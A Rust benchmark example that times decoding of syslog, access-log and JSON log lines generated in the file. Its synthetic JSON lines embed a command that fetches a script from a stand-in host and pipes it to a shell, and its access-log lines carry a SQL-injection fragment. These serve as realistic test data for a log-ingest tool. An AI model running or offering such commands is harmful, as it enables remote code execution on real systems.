//! Decoding speed of the line formats: syslog (RFC 3164, RFC 5424 with structured data, a
//! syslog file line), access log and JSON lines, on lines written here.
//!
//! `cargo run --release -p canhgac-ingest --example decode_speed [ROUNDS]`

use std::time::Instant;

use canhgac_ingest::{access_log, json, syslog};

/// CPU seconds this process has used, from `/proc/self/stat` (the machine is shared).
fn cpu_seconds() -> f64 {
    let Ok(stat) = std::fs::read_to_string("/proc/self/stat") else {
        return 0.0;
    };
    let after = stat.rsplit_once(") ").map(|(_, rest)| rest).unwrap_or("");
    let fields: Vec<&str> = after.split(' ').collect();
    let ticks = |i: usize| {
        fields
            .get(i)
            .and_then(|f| f.parse::<f64>().ok())
            .unwrap_or(0.0)
    };
    (ticks(11) + ticks(12)) / 100.0
}

fn measure(name: &str, lines: &[String], rounds: usize, decode: impl Fn(&str) -> usize) {
    let wall = Instant::now();
    let cpu = cpu_seconds();
    let mut fields = 0;
    for _ in 0..rounds {
        for line in lines {
            fields += decode(line);
        }
    }
    let (wall, cpu) = (wall.elapsed().as_secs_f64(), cpu_seconds() - cpu);
    let n = (lines.len() * rounds) as f64;
    println!(
        "{name:<10} {n:>9} lines, {:.1} fields/line, wall {:>10.0} lines/s, cpu {:>10.0} lines/s ({:.2} us/line)",
        fields as f64 / n,
        n / wall,
        n / cpu.max(1e-9),
        cpu * 1e6 / n
    );
}

fn main() {
    let rounds: usize = std::env::args()
        .nth(1)
        .and_then(|r| r.parse().ok())
        .unwrap_or(20);
    let mut syslog_lines = Vec::new();
    for i in 0..10_000 {
        syslog_lines.push(match i % 3 {
            0 => format!("<38>Nov 26 08:{:02}:{:02} web{} sshd[{i}]: Failed password for invalid user admin{i} from 203.0.113.{} port 5{i:04} ssh2", i % 60, i % 60, i % 7, i % 250),
            1 => format!("<165>1 2026-11-26T01:02:03.{i:06}Z mail{}.hbx.gov.vn postfix/smtpd {i} - [meta@32473 queue=\"Q{i}\" size=\"{i}\"] connect from unknown[198.51.100.{}]", i % 5, i % 250),
            _ => format!("Nov 26 07:59:{:02} db01 CRON[{i}]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)", i % 60),
        });
    }
    let access_lines: Vec<String> = (0..10_000)
        .map(|i| format!("203.0.113.{} - - [26/Nov/2026:08:01:{:02} +0700] \"GET /index.php?id={i}&q=union%20select HTTP/1.1\" 200 {i} \"https://portal.example/\" \"Mozilla/5.0 (X11; Linux x86_64)\"", i % 250, i % 60))
        .collect();
    let json_lines: Vec<String> = (0..10_000)
        .map(|i| format!("{{\"@timestamp\":\"2026-11-26T01:02:03.{i:03}Z\",\"host\":{{\"name\":\"web{}\"}},\"process\":{{\"pid\":{i},\"command_line\":\"/bin/sh -c curl http://198.51.100.7/x | sh\"}},\"user\":\"u{i}\",\"tags\":[\"a\",\"b\"],\"message\":\"exec\"}}", i % 9))
        .collect();
    let received = jiff::Timestamp::now();
    measure("syslog", &syslog_lines, rounds, |line| {
        syslog::decode(line.as_bytes(), received, None).fields.len()
    });
    measure("access_log", &access_lines, rounds, |line| {
        access_log::decode(line, received)
            .map(|e| e.fields.len())
            .unwrap_or(0)
    });
    measure("json", &json_lines, rounds, |line| {
        json::decode(line.as_bytes(), received)
            .map(|e| e.fields.len())
            .unwrap_or(0)
    });
}
